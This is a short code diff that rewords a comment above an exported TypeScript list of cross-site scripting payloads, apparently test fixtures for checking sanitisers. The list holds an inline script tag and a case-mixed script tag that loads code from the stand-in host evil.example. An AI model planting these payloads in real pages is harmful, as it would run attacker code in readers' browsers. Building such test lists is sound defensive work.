@@ -1,6 +1,6 @@
 const run = 'globalThis.hacked=1';
 
-/** Texts that try to run something in the page of whoever reads them. */
+/** Texts that try to run code in the page of their readers. */
 export const payloads: readonly string[] = [
   `<script>${run}</script>`,
   `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
